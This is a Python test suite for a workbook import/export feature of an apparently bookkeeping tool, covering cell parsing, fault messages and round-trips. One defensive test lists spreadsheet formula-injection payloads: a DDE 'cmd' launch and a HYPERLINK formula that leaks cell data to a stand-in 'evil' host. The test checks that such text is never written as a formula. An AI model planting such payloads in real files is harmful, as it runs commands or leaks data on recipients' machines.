"""Books as a workbook: read as the JSON form is, and what is wrong names sheet and cell."""

import io
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, TypeAlias

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from timix_xl.errors import InputError
from timix_xl.importing import faults
from timix_xl.importing.books_drawing import as_workbook
from timix_xl.importing.books_export import Books
from timix_xl.importing.books_sheets import SHEETS
from timix_xl.importing.books_workbook import books_rows_of, looks_like_books
from timix_xl.importing.books_writing import export_books
from timix_xl.importing.refusals import SheetTooBig
from timix_xl.importing.workbooks import opened
from timix_xl.store.database import open_store

Change: TypeAlias = Callable[[openpyxl.Workbook], None]
TODAY = date(2026, 2, 2)
HEADER = 4
FIRST = 5


def sheets(**rows: list[list[Any]]) -> bytes:
    """Make a workbook as a person would: no cover, no title, a header and rows."""
    made = openpyxl.Workbook()
    made.remove(made.worksheets[0])
    for name, some in rows.items():
        sheet = made.create_sheet(name)
        for row in some:
            sheet.append(row)
    return saved(made)


def saved(book: openpyxl.Workbook) -> bytes:
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


@pytest.fixture(scope="module")
def exported(example: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Export the example as a workbook, once."""
    store = open_store(str(example[1]))
    path = export_books(store, tmp_path_factory.mktemp("books") / "books.xlsx", today=TODAY).path
    store.close()
    return path


@pytest.fixture
def edit(books: Any, exported: Path) -> Callable[[Change], bytes]:
    """Let somebody edit the workbook of what is in the store."""

    def edited(change: Change) -> bytes:
        book = openpyxl.load_workbook(exported)
        change(book)
        return saved(book)

    return edited


@pytest.fixture
def refused(take: Any, edit: Any) -> Callable[[Change], list[tuple[Any, str, str]]]:
    """Edit the workbook and take it in; returns what is refused: row, column, code."""

    def refusals(change: Change) -> list[tuple[Any, str, str]]:
        report = take(edit(change), "edited.xlsx")
        assert not report.written
        return [(one.row, one.column, one.code) for one in report.refused]

    return refusals


def put(sheet: str, cell: str, value: Any) -> Change:
    """Type a value into a cell."""

    def typed(book: openpyxl.Workbook) -> None:
        book[sheet][cell] = value

    return typed


def column(sheet: str, name: str, row: int = FIRST) -> str:
    """Return the cell of a column in a row."""
    form = next(one for one in SHEETS if one.name == sheet)
    return f"{openpyxl.utils.get_column_letter(form.names.index(name) + 1)}{row}"


# What is taken.


def test_the_same_workbook_is_known(take: Any, edit: Any) -> None:
    report = take(edit(lambda _: None), "books.xlsx")
    assert (report.taken, report.changed, report.refused) == (0, 0, ())
    assert report.known > 20


def test_a_person_may_type_a_workbook_of_their_own(take: Any, books: Any, rows: Any) -> None:
    content = sheets(
        customers=[
            ["code", "name", "currency", "tax_code"],
            ["NEW", "New Ltd", "EUR", "S19"],
        ],
        locations=[["customer", "code", "city"], ["NEW", "EAST", "Riga"]],
    )
    assert take(content, "mine.xlsx").taken == 1
    assert {row["code"]: row["city"] for row in rows("locations")}["EAST"] == "Riga"


def test_codes_that_look_like_numbers_stay_text(take: Any, books: Any, rows: Any) -> None:
    content = sheets(vendors=[["code", "name"], ["001", "One"], [7, 42]])
    assert not take(content, "mine.xlsx").refused
    assert {row["code"]: row["name"] for row in rows("vendors")} == {
        "V1": "Steel & Sons",
        "001": "One",
        "7": "42",
    }


def test_a_sum_of_floats_is_the_number_that_is_shown(take: Any, books: Any, rows: Any) -> None:
    content = sheets(people=[["code", "name", "bill_rate"], ["zoe", "Zoe", 0.1 + 0.2]])
    assert not take(content, "mine.xlsx").refused
    assert (
        str(next(row for row in rows("people") if row["code"] == "zoe")["bill_rate"]) == "0.300000"
    )


def test_dates_are_taken_as_dates_and_as_text(take: Any, books: Any, rows: Any) -> None:
    header = ["rate", "project", "task", "from"]
    content = sheets(
        bill_rates=[
            header,
            [1, "P1", "build", datetime(2026, 3, 1)],
            [2, "P1", "walls", "2026-04-01"],
        ]
    )
    assert not take(content, "mine.xlsx").refused
    assert {row["since"] for row in rows("bill_rates")} >= {date(2026, 3, 1), date(2026, 4, 1)}


def test_yes_and_no_are_truths(take: Any, books: Any, rows: Any) -> None:
    header = ["code", "customer", "pro_forma", "material_at_cost"]
    content = sheets(projects=[header, ["Y", "ACME", "yes", True], ["N", "ACME", "no", None]])
    assert not take(content, "mine.xlsx").refused
    found = {row["code"]: (row["pro_forma"], row["material_at_cost"]) for row in rows("projects")}
    assert (found["Y"], found["N"]) == ((True, True), (False, False))


def test_next_numbers_alone_begin_a_series(take: Any, rows: Any) -> None:
    content = sheets(
        next_numbers=[
            ["series", "year", "next_number"],
            ["invoice", 2026, 121],
            ["pro_forma", None, 5],
        ]
    )
    assert not take(content, "mine.xlsx").refused
    assert {(row["kind"].value, row["year"], row["next_seq"]) for row in rows("series")} == {
        ("invoice", 2026, 121),
        ("pro_forma", 0, 5),
    }


def test_hidden_rows_and_sheets_are_taken(take: Any, edit: Any) -> None:
    def hide(book: openpyxl.Workbook) -> None:
        book["vendors"]["A6"] = "V2"
        book["vendors"].row_dimensions[6].hidden = True
        book["vendors"].sheet_state = "hidden"

    assert take(edit(hide), "edited.xlsx").taken == 1


def test_sheets_and_columns_may_stand_in_another_order(take: Any, books: Any) -> None:
    content = sheets(
        item_prices=[["price", "item"], [2.5, "NUT"]],
        items=[["name", "code"], ["A nut", "NUT"]],
    )
    assert take(content, "mine.xlsx").taken == 1


def test_a_blank_sheet_and_blank_rows_are_nothing(take: Any, books: Any) -> None:
    content = sheets(Notes=[], vendors=[["code", "name"], [None, " "], ["V2", "Two"]])
    assert take(content, "mine.xlsx").taken == 1


def test_a_formula_stands_for_its_saved_result(take: Any, edit: Any) -> None:
    # openpyxl saves formulas without results, as a program that does not calculate.
    report = take(edit(put("people", "C5", "=40+2")), "edited.xlsx")
    assert [(one.row, one.column, one.code) for one in report.refused] == [
        ("people!C5", "bill_rate", faults.CELL_UNUSABLE.code)
    ]


def shown_as(sheet: str, cell: str, value: Any, number_format: str) -> Change:
    """Type a value into a cell and give it a number format."""

    def typed(book: openpyxl.Workbook) -> None:
        book[sheet][cell] = value
        book[sheet][cell].number_format = number_format

    return typed


@pytest.mark.parametrize(
    ("value", "number_format", "percent"),
    [
        (0.19, "0%", "19"),
        (0.07, "0.00%", "7"),
        (0.0575, "#,##0.0 %", "5.75"),
        (1, "0%", "100"),
        (0, "0%;-0%", "0"),
        (19, '0"%"', "19"),
        (19, "0\\%", "19"),
        ("19%", "@", "19"),
        ("19 %", "@", "19"),
    ],
)
def test_a_percentage_is_the_one_that_its_cell_shows(
    value: Any, number_format: str, percent: str, take: Any, edit: Any, rows: Any
) -> None:
    cell = column("tax_rates", "percent")
    report = take(edit(shown_as("tax_rates", cell, value, number_format)), "edited.xlsx")
    assert report.refused == ()
    assert [row["percent"] for row in rows("tax_rates")] == [Decimal(percent)]


def test_a_formula_is_written_as_text_and_read_as_it_is_typed(
    exported: Path, take: Any, edit: Any, rows: Any
) -> None:
    amount = column("rule_steps", "amount")
    cell = openpyxl.load_workbook(exported)["rule_steps"][amount]
    assert (cell.value, cell.data_type, cell.number_format) == (
        *("=[Entry.BillableQty]*@Rate", "s", "@"),
    )

    def dearer(book: openpyxl.Workbook) -> None:
        typed = book["rule_steps"][amount]
        typed.value, typed.data_type = "=[Entry.BillableQty]*@Rate*2", "s"

    report = take(edit(dearer), "edited.xlsx")
    assert (report.changed, report.refused) == (1, ())
    assert "=[Entry.BillableQty]*@Rate*2" in {row["amount"] for row in rows("rule_steps")}


def test_words_of_a_list_stand_in_one_cell(exported: Path) -> None:
    book = openpyxl.load_workbook(exported)
    cells = [book["rate_sequences"][column("rate_sequences", "factors", at)] for at in (5, 6, 7)]
    assert [cell.value for cell in cells] == ["task", "project, employee", "none"]


def test_a_rate_table_without_sequences_is_sent_to_the_other_sheet(take: Any, edit: Any) -> None:
    def add(book: openpyxl.Workbook) -> None:
        book["rate_tables"]["A7"], book["rate_tables"]["B7"] = "RT", "JUNIOR"

    found = take(edit(add), "edited.xlsx").refused
    assert [(fault.row, fault.code) for fault in found] == [
        ("rate_tables!A7", faults.ROWS_MISSING.code)
    ] * 2
    assert found[0].message == "The rate table RT / JUNIOR has no row in the sheet rate_sequences."
    assert found[0].hint == "Add one there, with RT / JUNIOR under rate_table / rate_type."


def test_a_percentage_beyond_a_hundred_is_refused(take: Any, edit: Any) -> None:
    report = take(edit(shown_as("tax_rates", "C5", 19, "0%")), "edited.xlsx")
    assert [(one.row, one.code) for one in report.refused] == [
        ("tax_rates!C5", faults.OUT_OF_RANGE.code)
    ]


def test_a_percentage_where_a_number_belongs_is_refused(take: Any, edit: Any) -> None:
    report = take(edit(shown_as("people", "C5", 0.5, "0%")), "edited.xlsx")
    (fault,) = report.refused
    assert (fault.row, fault.column, fault.code) == ("people!C5", "bill_rate", "IMP-98")
    assert str(fault.message) == "50% is a percentage, which this column does not have."


def test_a_percentage_in_a_text_is_the_text_that_is_shown(take: Any, edit: Any, rows: Any) -> None:
    cell = column("customers", "name")
    assert take(edit(shown_as("customers", cell, 1, "0%")), "edited.xlsx").refused == ()
    assert "100%" in {row["name"] for row in rows("customers")}


def test_percentages_are_exported_as_plain_numbers(exported: Path) -> None:
    cell = openpyxl.load_workbook(exported)["tax_rates"][column("tax_rates", "percent")]
    assert (cell.value, "%" in cell.number_format) == (19, False)


# What is refused, and where.

CELLS: list[tuple[str, str, Any, faults.FaultKind]] = [
    ("customers", "name", None, faults.MISSING),
    ("customers", "currency", "euro", faults.NOT_A_CURRENCY),
    ("customers", "tax_code", "S7", faults.UNKNOWN_CODE),
    ("people", "bill_rate", "a lot", faults.NOT_A_NUMBER),
    ("people", "bill_rate", "95,50", faults.DECIMAL_COMMA),
    ("people", "cost_rate", "#N/A", faults.CELL_UNUSABLE),
    ("frame_orders", "valid_from", "31.01.2026", faults.NOT_A_DATE),
    ("projects", "status", "done", faults.NOT_A_CHOICE),
    ("projects", "pro_forma", "perhaps", faults.NOT_TRUE_OR_FALSE),
    ("tax_rates", "percent", "nineteen", faults.NOT_A_NUMBER),
    ("tax_rates", "percent", None, faults.MISSING),
    ("tax_rates", "tax_code", "S7", faults.UNKNOWN_CODE),
    ("tax_rates", "tax_code", None, faults.MISSING),
    ("item_prices", "price", -1, faults.OUT_OF_RANGE),
    ("locations", "country", "Germany", faults.NOT_A_COUNTRY),
    ("rule_steps", "billing_rule", "NO", faults.UNKNOWN_CODE),
    ("rule_steps", "amount", "[Entry.Amount]", faults.FORMULA_REFUSED),
    ("rule_steps", "account_group", "NO", faults.UNKNOWN_CODE),
    ("rule_steps", "aggregate_by", "item and date", faults.NOT_A_CHOICE),
    ("rate_sequences", "rate_type", "NO", faults.UNKNOWN_CODE),
    ("rate_sequences", "rate_table", None, faults.MISSING),
    ("rate_sequences", "factors", None, faults.MISSING),
    ("table_rates", "rate", "a lot", faults.NOT_A_NUMBER),
    ("table_rates", "seq", 7, faults.SEQUENCE_MISSING),
    ("table_rates", "item", "BOLT", faults.FACTOR_NOT_ASKED),
    ("limits", "amount", 0, faults.OUT_OF_RANGE),
    ("limits", "task", "no", faults.UNKNOWN_CODE),
    ("entries", "date", "yesterday", faults.NOT_A_DATE),
    ("entries", "task", "no", faults.UNKNOWN_CODE),
]


@pytest.mark.parametrize(("sheet", "name", "value", "kind"), CELLS)
def test_a_cell_with_a_fault_is_named_with_its_sheet(
    sheet: str, name: str, value: Any, kind: faults.FaultKind, refused: Any
) -> None:
    cell = column(sheet, name)
    assert (f"{sheet}!{cell}", name, kind.code) in refused(put(sheet, cell, value))


def test_a_message_names_the_column_as_the_sheet_does(take: Any, edit: Any) -> None:
    report = take(edit(put("tax_rates", "C5", None)), "edited.xlsx")
    assert report.refused[0].message == "percent is missing."


def test_a_tax_code_without_rates_is_sent_to_the_other_sheet(take: Any, edit: Any) -> None:
    def add(book: openpyxl.Workbook) -> None:
        book["tax_codes"]["A6"], book["tax_codes"]["B6"] = "S7", "S"

    (fault,) = take(edit(add), "edited.xlsx").refused
    assert (fault.row, fault.code) == ("tax_codes!A6", faults.ROWS_MISSING.code)
    assert fault.message == "The tax code S7 has no row in the sheet tax_rates."
    assert fault.hint == "Add one there, with S7 under tax_code."


def test_a_header_that_stands_twice_is_refused(refused: Any) -> None:
    assert refused(put("vendors", f"C{HEADER}", "name")) == [
        ("vendors!C4", "name", faults.KEY_TWICE.code)
    ]


def test_an_unknown_column_is_refused(refused: Any) -> None:
    assert refused(put("vendors", f"C{HEADER}", "nickname")) == [
        ("vendors!C4", "nickname", faults.UNKNOWN_KEY.code)
    ]


def test_a_value_beside_the_table_is_refused(refused: Any) -> None:
    assert refused(put("vendors", "D5", "ask Ben")) == [("vendors!D5", "", faults.UNKNOWN_KEY.code)]


def test_a_column_that_is_needed_is_missed_once(take: Any, books: Any) -> None:
    report = take(sheets(people=[["code", "bill_rate"], ["a", 1], ["b", 2]]), "mine.xlsx")
    assert [(one.row, one.column, one.code) for one in report.refused] == [
        ("people!1", "name", faults.MISSING.code)
    ]


def test_a_sheet_without_its_header_is_refused(refused: Any) -> None:
    def take_away(book: openpyxl.Workbook) -> None:
        book["vendors"].delete_rows(HEADER)

    assert refused(take_away) == [("vendors", "", faults.NO_HEADER.code)]


def test_a_renamed_sheet_is_refused_by_its_name(refused: Any) -> None:
    def rename(book: openpyxl.Workbook) -> None:
        book["vendors"].title = "Lieferanten"

    assert refused(rename) == [("Lieferanten", "", faults.UNKNOWN_SHEET.code)]


def test_there_is_one_company(refused: Any) -> None:
    def add(book: openpyxl.Workbook) -> None:
        book["company"]["A6"] = "Another Ltd"

    assert refused(add) == [("company!A6", "", faults.ONE_ROW.code)]


@pytest.mark.parametrize(
    ("row", "place", "kind"),
    [
        (["bill", 2026, 2], "A", faults.UNKNOWN_KEY),
        (["invoice", None, 2], "A", faults.UNKNOWN_KEY),
        ([None, 2026, 2], "A", faults.MISSING),
        (["invoice", 2026, None], "C", faults.MISSING),
        (["invoice", 2026, "#REF!"], "C", faults.CELL_UNUSABLE),
        (["invoice", 2026, "two"], "C", faults.NOT_A_NUMBER),
    ],
)
def test_a_next_number_with_a_fault_is_named(
    row: list[Any], place: str, kind: faults.FaultKind, take: Any, books: Any
) -> None:
    content = sheets(next_numbers=[["series", "year", "next_number"], row])
    (fault,) = take(content, "mine.xlsx").refused
    assert (fault.row, fault.code) == (f"next_numbers!{place}2", kind.code)


def test_a_series_that_stands_twice_is_refused(take: Any, books: Any) -> None:
    header = ["series", "year", "next_number"]
    content = sheets(next_numbers=[header, ["invoice", 2026, 2], ["invoice", 2026, 3]])
    (fault,) = take(content, "mine.xlsx").refused
    assert (fault.row, fault.code) == ("next_numbers!A3", faults.KEY_TWICE.code)


def test_a_row_that_stands_twice_names_the_first(take: Any, books: Any) -> None:
    content = sheets(vendors=[["code", "name"], ["V2", "a"], ["V2", "b"]])
    (fault,) = take(content, "mine.xlsx").refused
    assert (fault.row, fault.message) == (
        "vendors!A3",
        "vendor V2 is already in this file, at vendors!A2.",
    )


def test_a_sheet_that_unpacks_to_too_much_is_not_read(take: Any, books: Any) -> None:
    wide = sheets(vendors=[["code", "name", *(f"c{at}" for at in range(300))]])
    with pytest.raises(SheetTooBig):
        take(wide, "wide.xlsx")


def test_a_broken_workbook_is_refused_whole(take: Any, edit: Any) -> None:
    content = edit(lambda _: None)
    with pytest.raises(InputError):
        take(content[: len(content) // 2], "half.xlsx")


def test_a_dry_run_of_a_workbook_writes_nothing(take: Any, edit: Any, dump: Any) -> None:
    content = edit(put("vendors", "B5", "Steel & Daughters"))
    before = dump()
    assert take(content, "edited.xlsx", dry_run=True).changed == 1
    assert dump() == before


# What a program writes, a program reads.

TEXTS = st.text(
    st.characters(exclude_categories=["Cc", "Cs"]) | st.sampled_from("\n\t=+-@'_x0041"),
    min_size=1,
    max_size=40,
).filter(str.strip)
AMOUNTS = st.decimals(-(10**9), 10**9, places=2, allow_nan=False)


@settings(max_examples=15, deadline=None, derandomize=True)
@given(st.lists(st.tuples(TEXTS, AMOUNTS), min_size=20, max_size=40))
def test_every_text_and_number_is_read_as_it_was_written(cells: list[tuple[str, Any]]) -> None:
    written = [
        {"id": f"E{at}", "description": text, "cost_amount": amount}
        for at, (text, amount) in enumerate(cells)
    ]
    sheets_read = opened(Path("books.xlsx"), as_workbook(Books({"entries": written})))
    assert looks_like_books(sheets_read)
    rows, wrong = books_rows_of(sheets_read, "books.xlsx")
    assert wrong == []
    read = [placed.record for placed in rows["entries"]]
    assert [row["description"] for row in read] == [row["description"] for row in written]
    amounts = [Decimal(row["cost_amount"]) for row in read]
    assert amounts == [row["cost_amount"] for row in written]


@pytest.mark.parametrize(
    "text", ["=cmd|'/C calc'!A0", '=HYPERLINK("http://evil/?"&B2,"x")', "@SUM(1)"]
)
def test_nothing_that_is_typed_becomes_a_formula(text: str) -> None:
    rows = {"vendors": [{"code": "V1", "name": text}]}
    content = as_workbook(Books(rows))
    cell = openpyxl.load_workbook(io.BytesIO(content))["vendors"]["B5"]
    assert (cell.value, cell.quotePrefix) == (text, True)
    (sheet,) = (one for one in opened(Path("b.xlsx"), content) if one.name == "vendors")
    assert sheet.rows[-1].cells[1] == text
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        written = [archive.read(name) for name in archive.namelist() if "worksheets" in name]
    assert not [one for one in written if b"<f>" in one]


def test_an_empty_table_keeps_a_blank_row() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_workbook(Books({}))))
    assert {table.ref for table in book["vendors"].tables.values()} == {"A4:B5"}
    assert list(book["vendors"].tables) == ["tblVendors"]


def test_closed_sets_and_codes_have_dropdowns() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_workbook(Books({}))))
    lists = {
        str(one.sqref).split(":")[0]: one.formula1
        for one in book["projects"].data_validations.dataValidation
        if one.type == "list"
    }
    assert lists[column("projects", "customer")] == "timix_all_customers"
    assert lists[column("projects", "pro_forma")] == '"yes,no"'
    assert lists[column("projects", "billing_type")] == '"tm,fixed,overhead"'
    assert book.defined_names["timix_all_customers"].attr_text == "tblCustomers[code]"


def test_every_column_has_a_note_that_says_whether_it_is_required() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_workbook(Books({}))))
    for form in SHEETS:
        for number, one in enumerate(form.columns, 1):
            note = book[form.name].cell(HEADER, number).comment.text
            assert ("Required." in note) == one.needed


def test_the_same_books_are_the_same_bytes() -> None:
    rows = {"vendors": [{"code": "V1", "name": "Öhler"}]}
    assert as_workbook(Books(rows)) == as_workbook(Books(rows))
